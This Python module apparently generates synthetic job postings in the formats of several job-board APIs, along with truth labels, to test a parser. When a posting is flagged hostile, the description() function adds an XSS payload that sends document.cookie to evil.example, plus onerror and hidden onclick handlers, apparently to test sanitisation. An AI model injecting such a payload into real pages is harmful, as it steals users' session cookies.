"""Render one posting's facts as each kind's native payload, shaped like the real APIs.

Each renderer takes `Facts` (what is true of the posting) and returns (payload, truth): `truth`
holds the labels that depend on how the kind carries a fact — which places a kind can express,
which employment types its single code can say — so that the label is what the payload says.
Facts a kind has no field for go into the description text in words, as real boards do.
"""

from __future__ import annotations

import html as html_lib
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from email.utils import format_datetime
from typing import Any

MONTHS = ("January", "February", "March", "April", "May", "June", "July", "August",
          "September", "October", "November", "December")


@dataclass(frozen=True)
class Place:
    city: str
    region: str | None
    country: str  # English name
    code: str  # ISO 3166-1 alpha-2
    text: str  # how a location line writes it ("San Francisco, CA", "NYC", "London, UK")
    text_region: str | None = None  # the region that text states (None: it names none)


@dataclass
class PayFact:
    min: float | None
    max: float | None
    currency: str | None
    period: str | None
    paid: bool | None
    text: str  # the words ("$20–25 per hour", "£500 fixed fee", "Unpaid")

    @property
    def amount(self) -> bool:
        return self.min is not None and self.period is not None and self.currency is not None

    def label(self) -> dict[str, Any]:
        return {"min": self.min, "max": self.max, "currency": self.currency,
                "period": self.period, "paid": self.paid}


@dataclass
class Facts:
    uid: str
    number: int
    title: str
    org: str
    domain: str
    body_html: str  # the description without the sentences a renderer may add
    employment: list[str]
    pay: PayFact | None
    places: list[Place]
    workplace: str  # remote / hybrid / onsite
    remote_countries: list[Place]
    posted: datetime
    deadline: date | None
    start: date | None
    hours: tuple[float | None, float | None] | None  # weekly, as the text states it
    team: str
    hostile: bool = False
    extra: dict[str, Any] = field(default_factory=dict)


def month_day(d: date) -> str:
    return f"{MONTHS[d.month - 1]} {d.day}"


def long_date(d: date) -> str:
    return f"{MONTHS[d.month - 1]} {d.day}, {d.year}"


def _iso_z(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def _ms(moment: datetime) -> int:
    return int(moment.replace(tzinfo=UTC).timestamp() * 1000)


# -- the description, with the words a kind needs -------------------------------------------


def description(f: Facts, *, pay: bool, deadline: bool, start: bool, arrangement: bool) -> str:
    """The body plus sentences for what the kind has no field for."""
    parts = [f.body_html]
    if arrangement and f.workplace == "hybrid":
        city = f.places[0].city if f.places else "our"
        parts.append(f"<p>This role is hybrid: two days a week in our {city} office.</p>")
    elif arrangement and f.workplace == "remote":
        where = " and ".join(p.country for p in f.remote_countries)
        parts.append("<p>This is a fully remote role" + (f" open to applicants in {where}"
                                                            if where else "") + ".</p>")
    if pay and f.pay is not None:
        parts.append(f"<p><strong>Compensation:</strong> {html_lib.escape(f.pay.text)}</p>")
    if deadline and f.deadline is not None:
        form = f.number % 3
        if form == 0:
            parts.append(f"<p>Apply by {month_day(f.deadline)}.</p>")
        elif form == 1:
            parts.append(f"<p>Application deadline: {long_date(f.deadline)}.</p>")
        else:
            parts.append(f"<p>Applications close on {f.deadline.isoformat()}.</p>")
    if start and f.start is not None:
        parts.append(f"<p>Start date: {long_date(f.start)}.</p>")
    if f.hostile:
        parts.append('<script>document.location="https://evil.example/?c="+document.cookie'
                     '</script><img src="x" onerror="alert(1)"><iframe src="https://ads.example">'
                     '</iframe><p style="display:none" onclick="steal()">Thanks for reading.</p>')
    return "".join(parts)


def _truth_places(f: Facts, *, with_region: bool = True) -> list[list[Any]]:
    if f.workplace == "remote":
        return []
    return [[p.city, p.region if with_region else p.text_region, p.code] for p in f.places]


def _remote_regions(f: Facts) -> list[str]:
    return [p.code for p in f.remote_countries] if f.workplace == "remote" else []


def _remote_text(f: Facts) -> str:
    codes = [p.code for p in f.remote_countries]
    if not codes:
        return "Remote"
    if len(codes) == 1:
        return ("Remote (US only)" if codes == ["US"] else f"Remote - {f.remote_countries[0].country}")
    return "Remote (" + " or ".join(c if c in ("US", "UK") else p.country
                                    for c, p in zip(codes, f.remote_countries, strict=True)) + ")"


def _location_text(f: Facts, place: Place) -> str:
    if f.workplace == "hybrid":
        return f"Hybrid - {place.text}"
    return place.text


# -- jsonld --------------------------------------------------------------------------------

JSONLD_TYPES = {"INTERN": ("INTERN", "Internship", "intern"), "PART_TIME": ("PART_TIME", "Part-time",
                "part time"), "FULL_TIME": ("FULL_TIME", "Full-time", "Full Time"),
                "CONTRACTOR": ("CONTRACTOR", "Contract", "Freelance"),
                "TEMPORARY": ("TEMPORARY", "Temporary", "Seasonal"),
                "VOLUNTEER": ("VOLUNTEER", "Volunteer", "volunteer")}


def jsonld(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    v = f.number % 3
    p: dict[str, Any] = {
        "@context": "https://schema.org/", "@type": "JobPosting", "title": f.title,
        "description": description(f, pay=not (f.pay and f.pay.amount), deadline=False, start=False,
                                   arrangement=f.workplace == "hybrid"),
        "identifier": {"@type": "PropertyValue", "name": f.org, "value": str(f.number)},
        "hiringOrganization": {"@type": "Organization", "name": f.org,
                               "sameAs": f"https://www.{f.domain}"},
        "datePosted": f.posted.date().isoformat() if v else f.posted.strftime("%Y-%m-%dT%H:%M"),
        "employmentType": [JSONLD_TYPES[t][v] for t in f.employment] if v != 1
        else ", ".join(JSONLD_TYPES[t][v] for t in f.employment),
        "url": f"https://{f.domain}/jobs/{f.number}",
    }
    if f.deadline:
        p["validThrough"] = f"{f.deadline.isoformat()}T23:59:59" if v else f.deadline.isoformat()
    if f.start:
        p["jobStartDate"] = f.start.isoformat()
    if f.workplace == "remote":
        p["jobLocationType"] = "TELECOMMUTE"
        if f.remote_countries:
            p["applicantLocationRequirements"] = [{"@type": "Country", "name": c.country}
                                                  for c in f.remote_countries]
    else:
        p["jobLocation"] = [{"@type": "Place", "address": {
            "@type": "PostalAddress", "addressLocality": pl.city, "addressRegion": pl.region,
            "addressCountry": pl.code if v != 2 else {"@type": "Country", "name": pl.country}}}
            for pl in f.places]
    if f.pay and f.pay.amount:
        value: dict[str, Any] = {"@type": "QuantitativeValue", "unitText": f.pay.period}
        if f.pay.min == f.pay.max:
            value["value"] = f.pay.min
        else:
            value.update(minValue=f.pay.min, maxValue=f.pay.max)
        p["baseSalary"] = {"@type": "MonetaryAmount", "currency": f.pay.currency, "value": value}
    return p, {"locations": _truth_places(f), "remote_regions": _remote_regions(f),
               "employment_types": list(f.employment)}


# -- greenhouse ----------------------------------------------------------------------------

GH_TYPES = {"INTERN": "Intern", "PART_TIME": "Part-time", "FULL_TIME": "Full-time",
            "CONTRACTOR": "Contractor", "TEMPORARY": "Temporary", "VOLUNTEER": "Volunteer"}


def greenhouse(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    structured_pay = bool(f.pay and f.pay.amount and f.pay.period in ("HOUR", "YEAR", "PROJECT"))
    body = description(f, pay=not structured_pay, deadline=False, start=True, arrangement=False)
    meta: list[dict[str, Any]] = [{"id": 1, "name": "Employment Type", "value_type": "single_select",
                                   "value": ", ".join(GH_TYPES[t] for t in f.employment)}]
    if f.deadline:
        meta.append({"id": 2, "name": "Application Deadline", "value_type": "date",
                     "value": f.deadline.isoformat()})
    if f.workplace == "remote":
        location = _remote_text(f)
    else:
        location = _location_text(f, f.places[0])
    job = {
        "id": f.number, "title": f.title, "company_name": f.org,
        "absolute_url": f"https://boards.greenhouse.io/{f.org.split()[0].lower()}/jobs/{f.number}",
        "location": {"name": location},
        "metadata": meta,
        "updated_at": f.posted.strftime("%Y-%m-%dT%H:%M:%S-04:00"),
        "first_published": f.posted.strftime("%Y-%m-%dT%H:%M:%S-04:00"),
        "content": html_lib.escape(body),
        "departments": [{"id": 4, "name": f.team}],
        "offices": [{"id": 9 + i, "name": pl.city, "location": f"{pl.text}"}
                    for i, pl in enumerate(f.places[1:])] if f.workplace != "remote" else [],
    }
    if structured_pay and f.pay:
        title = {"HOUR": "Hourly Pay", "YEAR": "Annual Salary", "PROJECT": "Project Fee"}[f.pay.period]
        job["pay_input_ranges"] = [{"min_cents": int(f.pay.min * 100), "max_cents": int(f.pay.max * 100),
                                    "currency_type": f.pay.currency, "title": title,
                                    "blurb": "Final pay depends on experience."}]
    return job, {"locations": _truth_places(f, with_region=False) if f.workplace != "remote"
                 else [], "remote_regions": _remote_regions(f),
                 "employment_types": list(f.employment)}


# -- lever ---------------------------------------------------------------------------------

LEVER_COMMITMENT = {("INTERN",): "Intern", ("INTERN", "PART_TIME"): "Intern - Part Time",
                    ("PART_TIME",): "Part Time", ("FULL_TIME",): "Full Time",
                    ("CONTRACTOR",): "Contract", ("TEMPORARY",): "Temporary",
                    ("CONTRACTOR", "PART_TIME"): "Part-time / Contract",
                    ("TEMPORARY", "PART_TIME"): "Part Time - Temporary",
                    ("VOLUNTEER",): "Volunteer", ("INTERN", "TEMPORARY"): "Internship (Seasonal)"}
LEVER_INTERVAL = {"HOUR": "per-hour-wage", "DAY": "per-day-wage", "WEEK": "per-week-salary",
                  "MONTH": "per-month-salary", "YEAR": "per-year-salary", "PROJECT": "one-time"}


def lever(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    structured_pay = bool(f.pay and f.pay.amount)
    body = description(f, pay=not structured_pay, deadline=True, start=True, arrangement=False)
    opening, _, rest = body.partition("</p>")
    if f.workplace == "remote":
        one = len(f.remote_countries) == 1 and not f.number % 2
        locs = ["Remote" if one else _remote_text(f)]
    else:
        locs = [pl.text for pl in f.places]
    p: dict[str, Any] = {
        "id": f.uid, "text": f.title,
        "categories": {"commitment": LEVER_COMMITMENT[tuple(f.employment)], "team": f.team,
                       "department": f.team, "location": locs[0], "allLocations": locs},
        "createdAt": _ms(f.posted), "description": f"<div>{opening}</div>",
        "descriptionPlain": "", "lists": [{"text": "What you will do",
                                           "content": f"<li>{rest or 'Deliver the project.'}</li>"}],
        "additional": "", "hostedUrl": f"https://jobs.lever.co/{f.domain.split('.')[0]}/{f.uid}",
        "applyUrl": f"https://jobs.lever.co/{f.domain.split('.')[0]}/{f.uid}/apply",
        "workplaceType": {"remote": "remote", "hybrid": "hybrid", "onsite": "on-site"}[f.workplace],
    }
    country = (f.remote_countries[0].code if f.remote_countries and f.workplace == "remote"
               else f.places[0].code if f.places and f.workplace != "remote" else None)
    if country and len(f.remote_countries) <= 1:
        p["country"] = country
    if structured_pay and f.pay:
        p["salaryRange"] = {"min": f.pay.min, "max": f.pay.max, "currency": f.pay.currency,
                            "interval": LEVER_INTERVAL[f.pay.period]}
    regions = _remote_regions(f)
    return p, {"locations": _truth_places(f, with_region=False), "remote_regions": regions}


# -- ashby ---------------------------------------------------------------------------------

ASHBY_TYPES = {"INTERN": "Intern", "CONTRACTOR": "Contract", "FULL_TIME": "FullTime",
               "PART_TIME": "PartTime", "TEMPORARY": "Temporary"}
ASHBY_INTERVAL = {"HOUR": "1 HOUR", "DAY": "1 DAY", "WEEK": "1 WEEK", "MONTH": "1 MONTH",
                  "YEAR": "1 YEAR", "PROJECT": "1 TIME"}


def ashby(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    structured_pay = bool(f.pay and f.pay.amount)
    kind = next((t for t in f.employment if t in ASHBY_TYPES), None)
    body = description(f, pay=not structured_pay, deadline=True, start=True, arrangement=False)
    job: dict[str, Any] = {
        "id": f.uid, "title": f.title, "department": f.team, "team": f.team,
        "employmentType": ASHBY_TYPES.get(kind or "", "FullTime"),
        "publishedAt": f.posted.strftime("%Y-%m-%dT%H:%M:%S.000+00:00"), "isListed": True,
        "jobUrl": f"https://jobs.ashbyhq.com/{f.domain.split('.')[0]}/{f.uid}",
        "applyUrl": f"https://jobs.ashbyhq.com/{f.domain.split('.')[0]}/{f.uid}/application",
        "descriptionHtml": body, "descriptionPlain": "",
        "workplaceType": {"remote": "Remote", "hybrid": "Hybrid", "onsite": "OnSite"}[f.workplace],
        "isRemote": f.workplace == "remote", "secondaryLocations": [],
    }
    truth_places: list[list[Any]] = []
    if f.workplace == "remote":
        job["location"] = _remote_text(f)
        if len(f.remote_countries) == 1:
            job["address"] = {"postalAddress": {"addressCountry": f.remote_countries[0].country}}
            truth_places = [[None, None, f.remote_countries[0].code]]
    else:
        first = f.places[0]
        job["location"] = first.text
        job["address"] = {"postalAddress": {"addressLocality": first.city,
                                            "addressRegion": first.region or "",
                                            "addressCountry": first.country}}
        job["secondaryLocations"] = [{"location": pl.text, "address": {"postalAddress": {
            "addressLocality": pl.city, "addressRegion": pl.region or "",
            "addressCountry": pl.country}}} for pl in f.places[1:]]
        truth_places = [[pl.city, pl.region, pl.code] for pl in f.places]
    if structured_pay and f.pay:
        component = {"compensationType": "Salary", "interval": ASHBY_INTERVAL[f.pay.period],
                     "currencyCode": f.pay.currency, "minValue": f.pay.min, "maxValue": f.pay.max}
        job["compensation"] = {"compensationTierSummary": f.pay.text, "summaryComponents": [component],
                               "compensationTiers": []}
    types = [kind] if kind else ["FULL_TIME"]
    return job, {"locations": truth_places, "remote_regions": _remote_regions(f),
                 "employment_types": types}


# -- smartrecruiters -----------------------------------------------------------------------

SR_TYPES = {"INTERN": ("intern", "Intern"), "CONTRACTOR": ("contract", "Contract"),
            "FULL_TIME": ("permanent", "Full-time"), "PART_TIME": ("part_time", "Part-time"),
            "TEMPORARY": ("temporary", "Temporary"), "VOLUNTEER": ("volunteer", "Volunteer")}


def smartrecruiters(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    kind = f.employment[0]
    body = description(f, pay=True, deadline=True, start=True, arrangement=False)
    if f.workplace == "remote":
        c = f.remote_countries[0] if f.remote_countries else None
        location = {"country": c.code.lower() if c else "", "remote": True, "hybrid": False,
                    "fullLocation": f"Remote, {c.country}" if c else "Remote"}
        truth = []
        regions = [c.code] if c else []
    else:
        pl = f.places[0]
        location = {"city": pl.city, "region": pl.region or "", "country": pl.code.lower(),
                    "remote": False, "hybrid": f.workplace == "hybrid",
                    "fullLocation": ", ".join(x for x in (pl.city, pl.region, pl.country) if x)}
        truth = [[pl.city, pl.region, pl.code]]
        regions = []
    types = [kind]
    intern_level = "INTERN" in f.employment
    if intern_level and "INTERN" not in types:
        types.insert(0, "INTERN")
    p = {
        "id": str(744000000000000 + f.number), "name": f.title, "uuid": f.uid,
        "company": {"identifier": f.org.replace(" ", ""), "name": f.org},
        "releasedDate": _iso_z(f.posted), "location": location,
        "industry": {"id": "internet", "label": "Internet"},
        "department": {"label": f.team}, "function": {"id": "other", "label": f.team},
        "typeOfEmployment": {"id": SR_TYPES[kind][0], "label": SR_TYPES[kind][1]},
        "experienceLevel": {"id": "internship" if intern_level else "entry_level",
                            "label": "Internship" if intern_level else "Entry Level"},
        "postingUrl": f"https://jobs.smartrecruiters.com/{f.org.replace(' ', '')}/{f.number}",
        "jobAd": {"sections": {
            "companyDescription": {"title": "Company Description", "text": ""},
            "jobDescription": {"title": "Job Description", "text": body},
            "qualifications": {"title": "Qualifications", "text": ""},
            "additionalInformation": {"title": "Additional Information", "text": ""}}},
    }
    return p, {"locations": truth, "remote_regions": regions, "employment_types": types}


# -- workable ------------------------------------------------------------------------------

WORKABLE_TYPES = {"INTERN": "Internship", "CONTRACTOR": "Contract", "FULL_TIME": "Full-time",
                  "PART_TIME": "Part-time", "TEMPORARY": "Temporary", "VOLUNTEER": "Volunteer"}


def workable(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    kind = next((t for t in f.employment if t != "INTERN"), f.employment[0])
    body = description(f, pay=True, deadline=True, start=True, arrangement=f.workplace == "hybrid")
    code = f.uid.replace("-", "")[:10].upper()
    if f.workplace == "remote":
        locs = [{"country": c.country, "countryCode": c.code, "city": "", "region": "",
                 "hidden": False} for c in f.remote_countries]
        truth = [[None, None, c.code] for c in f.remote_countries]
    else:
        locs = [{"country": pl.country, "countryCode": pl.code, "city": pl.city,
                 "region": pl.region or "", "hidden": False} for pl in f.places]
        truth = [[pl.city, pl.region, pl.code] for pl in f.places]
    types = [kind] if kind != "INTERN" else ["INTERN"]
    if "INTERN" in f.employment and "INTERN" not in types:
        types.insert(0, "INTERN")
    p = {
        "title": f.title, "shortcode": code, "employment_type": WORKABLE_TYPES[kind],
        "telecommuting": f.workplace == "remote", "department": f.team,
        "url": f"https://apply.workable.com/j/{code}", "application_url":
        f"https://apply.workable.com/j/{code}/apply", "published_on": f.posted.date().isoformat(),
        "created_at": f.posted.date().isoformat(),
        "experience": "Internship" if "INTERN" in f.employment else "Entry level",
        "function": "", "industry": "", "locations": locs, "description": body,
        "requirements": "", "benefits": "",
        "_board": {"token": f.org.split()[0].lower(), "name": f.org},
    }
    return p, {"locations": truth, "remote_regions": _remote_regions(f), "employment_types": types}


# -- recruitee -----------------------------------------------------------------------------

RECRUITEE_CODES = {("INTERN",): "internship", ("INTERN", "PART_TIME"): "internship",
                   ("PART_TIME",): "parttime", ("FULL_TIME",): "fulltime_permanent",
                   ("CONTRACTOR",): "freelance", ("TEMPORARY",): "temporary",
                   ("CONTRACTOR", "PART_TIME"): "freelance",
                   ("TEMPORARY", "PART_TIME"): "parttime_fixed_term",
                   ("VOLUNTEER",): "volunteer", ("INTERN", "TEMPORARY"): "internship"}
RECRUITEE_TYPES = {"internship": ["INTERN"], "parttime": ["PART_TIME"],
                   "fulltime_permanent": ["FULL_TIME"], "freelance": ["CONTRACTOR"],
                   "temporary": ["TEMPORARY"], "parttime_fixed_term": ["PART_TIME", "TEMPORARY"],
                   "volunteer": ["VOLUNTEER"]}
RECRUITEE_PERIODS = {"HOUR": "hour", "DAY": "day", "WEEK": "week", "MONTH": "month", "YEAR": "year"}


def recruitee(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    structured_pay = bool(f.pay and f.pay.amount and f.pay.period in RECRUITEE_PERIODS)
    code = RECRUITEE_CODES[tuple(f.employment)]
    body = description(f, pay=not structured_pay, deadline=False, start=True, arrangement=False)
    slug = f.title.lower().replace(" ", "-")
    places = [] if f.workplace == "remote" else f.places
    o: dict[str, Any] = {
        "id": f.number, "slug": slug, "title": f.title, "company_name": f.org,
        "department": f.team, "description": body, "requirements": "",
        "careers_url": f"https://{f.domain.split('.')[0]}.recruitee.com/o/{slug}",
        "employment_type_code": code, "category_code": "",
        "remote": f.workplace == "remote", "hybrid": f.workplace == "hybrid",
        "on_site": f.workplace == "onsite",
        "locations": [{"city": pl.city, "state": pl.region, "country": pl.country,
                       "country_code": pl.code} for pl in places],
        "published_at": f.posted.strftime("%Y-%m-%d %H:%M:%S UTC"),
        "created_at": f.posted.strftime("%Y-%m-%d %H:%M:%S UTC"),
        "close_at": f"{f.deadline.isoformat()} 23:59:00 UTC" if f.deadline else None,
        "min_hours": 0, "max_hours": 0,
    }
    if f.hours and f.number % 2:
        lo, hi = f.hours
        o["min_hours"], o["max_hours"] = (lo or 0), (hi or 0)
    if structured_pay and f.pay:
        o["salary"] = {"min": f"{f.pay.min:.0f}" if f.pay.min is not None else None,
                       "max": f"{f.pay.max:.0f}" if f.pay.max is not None else None,
                       "period": RECRUITEE_PERIODS[f.pay.period], "currency": f.pay.currency}
    return o, {"locations": [[pl.city, pl.region, pl.code] for pl in places],
               "remote_regions": [],  # the API has no field for it
               "employment_types": RECRUITEE_TYPES[code]}


# -- feed ----------------------------------------------------------------------------------

FEED_TYPES = {"INTERN": "Internship", "PART_TIME": "Part-time", "FULL_TIME": "Full-time",
              "CONTRACTOR": "Freelance", "TEMPORARY": "Temporary", "VOLUNTEER": "Volunteer"}


def feed(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    body = description(f, pay=False, deadline=False, start=False, arrangement=False)
    posted = format_datetime(f.posted.replace(tzinfo=UTC))
    ext: dict[str, Any] = {"job:company": f.org,
                           "job:jobType": [FEED_TYPES[t] for t in f.employment]}
    truth = []
    if f.workplace == "remote":
        ext["job:remoteStatus"] = "fully"
        if f.remote_countries:
            ext["job:location"] = {"job:country": f.remote_countries[0].country}
            truth = [[None, None, f.remote_countries[0].code]]
    else:
        ext["job:remoteStatus"] = "hybrid" if f.workplace == "hybrid" else "none"
        ext["job:location"] = [{"job:city": pl.city, "job:country": pl.country} for pl in f.places]
        truth = [[pl.city, None, pl.code] for pl in f.places]
    if f.pay is not None:
        ext["job:salary"] = f.pay.text
    if f.deadline:
        ext["job:deadline"] = f.deadline.isoformat()
    if f.start:
        ext["job:startDate"] = long_date(f.start)
    entry = {"title": f.title, "link": f"https://{f.domain}/jobs/{f.number}", "id": f.uid,
             "summary": body, "published": posted, "tags": [{"term": f.team}],
             "extensions": ext, "feed": {"title": f"{f.org} careers",
                                         "namespaces": {"job": "https://example.org/job"}}}
    regions = [f.remote_countries[0].code] if f.workplace == "remote" and f.remote_countries else []
    return entry, {"locations": truth, "remote_regions": regions,
                   "employment_types": list(f.employment)}


# -- html ----------------------------------------------------------------------------------

HTML_TYPES = {"INTERN": "Internship", "PART_TIME": "Part-time", "FULL_TIME": "Full-time",
              "CONTRACTOR": "Contract", "TEMPORARY": "Temporary", "VOLUNTEER": "Volunteer"}


def html(f: Facts) -> tuple[dict[str, Any], dict[str, Any]]:
    body = description(f, pay=False, deadline=False, start=True, arrangement=False)
    fields: dict[str, list[str]] = {
        "title": [f"<h1 class=\"job-title\">{html_lib.escape(f.title)}</h1>"],
        "description": [f"<div class=\"job-body\">{body}</div>"],
        "organization": [f.org],
        "employment_type": [" · ".join(HTML_TYPES[t] for t in f.employment)],
        "posted_at": [f.extra.get("posted_text") or f"Posted {long_date(f.posted.date())}"],
    }
    if f.workplace == "remote":
        fields["location"] = [_remote_text(f)]
    else:
        fields["location"] = [_location_text(f, pl) for pl in f.places]
    if f.pay is not None:
        fields["pay"] = [f.pay.text]
    if f.deadline:
        fields["deadline"] = [f"Apply by: {long_date(f.deadline)}"]
    payload = {"fields": fields, "list_fields": {"url": [f"/jobs/{f.number}"]}}
    truth_places = ([] if f.workplace == "remote"
                    else [[pl.city, pl.text_region, pl.code] for pl in f.places])
    return payload, {"locations": truth_places, "remote_regions": _remote_regions(f),
                     "employment_types": list(f.employment)}


RENDERERS = {"jsonld": jsonld, "greenhouse": greenhouse, "lever": lever, "ashby": ashby,
             "smartrecruiters": smartrecruiters, "workable": workable, "recruitee": recruitee,
             "feed": feed, "html": html}
KINDS = tuple(RENDERERS)
